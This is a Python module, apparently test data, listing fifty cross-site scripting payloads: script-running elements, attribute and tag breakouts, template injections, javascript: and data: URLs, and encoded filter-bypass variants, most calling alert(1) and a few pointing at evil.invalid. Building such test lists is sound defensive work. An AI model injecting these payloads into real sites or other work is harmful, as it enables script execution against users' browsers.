"""Fifty texts that would run in a page which reads them as markup, as an address, or as a script.

Each calls `alert`, which a browser tells the test of; some would leave an element with an id.
"""

from __future__ import annotations

PAYLOADS = (
    # Elements that run by themselves.
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=//evil.invalid/>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    '<a href="javascript:alert(1)" id=pwned>x</a>',
    "<template><script>alert(1)</script></template><b id=pwned>",
    # Out of where they stand: an attribute, a comment, a script, a title, a text field.
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onclick='alert(1)",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre><svg onload=alert(1)>",
    "';alert(1);//",
    '";alert(1);//',
    '\\";alert(1);//',
    "`${alert(1)}`",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    # Addresses, and what filters are passed by.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "//evil.invalid/%0aalert(1)",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
)
